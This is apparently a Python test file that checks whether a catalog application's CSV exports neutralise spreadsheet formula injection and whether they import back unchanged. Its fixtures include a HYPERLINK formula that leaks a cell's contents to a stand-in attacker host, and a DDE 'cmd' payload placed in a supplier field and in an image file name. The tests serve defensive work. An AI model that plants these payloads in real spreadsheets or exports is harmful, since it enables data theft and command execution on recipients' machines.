"""CSV that a spreadsheet would run: formula injection through exported cells.

A material named `=HYPERLINK(...)` or a photo named `=cmd|...` must open as text in whoever's
spreadsheet receives the export, and a catalog export must still import back as it was.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from httpx import AsyncClient

from kai.kit.spreadsheets import FORMULA_STARTS, CsvWriter, neutralise_cell, restore_cell
from kai.recognition import batches
from kai.runtime import Runtime
from tests.catalog.factories import create_category, create_material
from tests.catalog.test_imports import _run_queued_import
from tests.identity.factories import member

pytestmark = pytest.mark.database

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your discount")'
COMMAND = "-2+3+cmd|' /C calc'!A0"
NUMBER = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"


def _runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula start that is not a plain number."""
    return cell.startswith(FORMULA_STARTS) and re.fullmatch(NUMBER, cell) is None


async def test_a_catalog_export_opens_as_text_and_imports_back_as_it_was(
    runtime: Runtime, client: AsyncClient
) -> None:
    owner = await member(runtime, client)
    category = await create_category(
        client,
        owner,
        "Trims",
        properties=[
            {"key": "offset", "label": "Offset", "type": "number", "minimum": -100},
            {"key": "note", "label": "Note", "type": "text"},
        ],
    )
    hostile = {
        "code": "=1+1",
        "name": HYPERLINK,
        "description": "+SUM(A1:A9)",
        "manufacturer": "@SUM(1)",
        "supplier": COMMAND,
        "tags": ["=danger", "safe"],
        "properties": {"offset": -5, "note": "'=already quoted by its author"},
    }
    plain = {
        "code": "PLAIN-1",
        "name": "'-a name that starts with a quote",
        "description": "-",
        "properties": {"offset": 12.5, "note": "@home"},
    }
    for fields in (hostile, plain):
        await create_material(client, owner, category_id=category["id"], **fields)

    exported = await client.get("/api/v1/catalog/exports?format=csv", headers=owner.headers)

    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert not [cell for row in rows for cell in row if _runs_as_formula(cell)]
    by_code = {row["code"]: row for row in csv.DictReader(io.StringIO(exported.text))}
    assert set(by_code) == {"'=1+1", "PLAIN-1"}
    written = by_code["'=1+1"]
    assert written["name"] == "'" + HYPERLINK
    assert written["supplier"] == "'" + COMMAND
    # A number is a number: nothing to run, so a spreadsheet sees -5, not text.
    assert written["properties.offset"] == "-5"
    assert written["properties.note"] == "''=already quoted by its author"

    before = await _materials(client, owner)
    dry = await client.post(
        "/api/v1/catalog/imports",
        files={"file": ("catalog.csv", exported.content, "text/csv")},
        data={"dry_run": "true"},
        headers=owner.headers,
    )
    assert dry.json()["error_count"] == 0, dry.text
    started = await client.post(
        "/api/v1/catalog/imports",
        files={"file": ("catalog.csv", exported.content, "text/csv")},
        headers=owner.headers,
    )
    report = await _run_queued_import(runtime, owner, started.json()["job"]["id"])
    assert (report["unchanged"], report["updated"], report["created"]) == (2, 0, 0), report
    assert await _materials(client, owner) == before
    assert before["=1+1"]["name"] == HYPERLINK
    assert before["=1+1"]["properties"]["offset"] == -5


async def _materials(client: AsyncClient, owner: Any) -> dict[str, dict[str, Any]]:
    page = await client.get("/api/v1/materials?limit=100", headers=owner.headers)
    keep = ("name", "description", "manufacturer", "supplier", "tags", "properties", "version")
    return {item["code"]: {key: item[key] for key in keep} for item in page.json()["items"]}


def test_batch_results_as_csv_open_as_text() -> None:
    row: dict[str, Any] = {
        "position": 1,
        "file_name": "=cmd|' /C calc'!A0.jpg",
        "status": "recognized",
        "error": None,
        "recognition_id": "8a0f6f0e-0000-4000-8000-000000000000",
        "label": "@SUM(1)",
        "confidence": 0.93,
        "unknown": False,
        "unknown_reason": None,
        "similar_material_id": None,
        "similar_name": "\t=1+1",
        "similar_score": -0.25,
    }

    written = list(csv.DictReader(io.StringIO(batches.results_csv([row]))))

    assert not [cell for cell in written[0].values() if _runs_as_formula(cell)]
    assert written[0]["file_name"] == "'=cmd|' /C calc'!A0.jpg"
    assert written[0]["similar_name"] == "'\t=1+1"
    assert (written[0]["confidence"], written[0]["similar_score"]) == ("0.93", "-0.25")


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-", "@x", "\tx", "\rx", "'=x", "''=x", "'x", "'", "", "-5", "+1.5e3",
     "-2+3", "plain", "'-5", "1-2", " =x"],
)  # fmt: skip
def test_every_cell_reads_back_as_it_was_written(value: str) -> None:
    out = io.StringIO()
    CsvWriter(out).writerow([value])
    cell = next(csv.reader(io.StringIO(out.getvalue())))

    assert not _runs_as_formula(cell[0])
    assert restore_cell(cell[0]) == value
    assert neutralise_cell(value) == cell[0]
